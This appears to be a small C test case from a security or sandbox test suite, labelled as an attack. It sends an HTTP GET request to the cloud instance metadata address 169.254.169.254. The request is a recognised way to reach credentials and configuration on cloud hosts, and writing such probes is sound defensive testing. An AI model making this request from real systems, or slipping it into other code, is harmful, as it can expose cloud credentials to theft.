/* Asks the metadata service of a cloud. */
#include "attack.h"

ATTACK() {
    lap_buffer request = {0};
    lap_list_add(&request, lap_str("GET"));
    lap_list_add(&request, lap_str("http://169.254.169.254/"));
    return facet_http_fetch(request.at, request.size, NULL, 0);
}
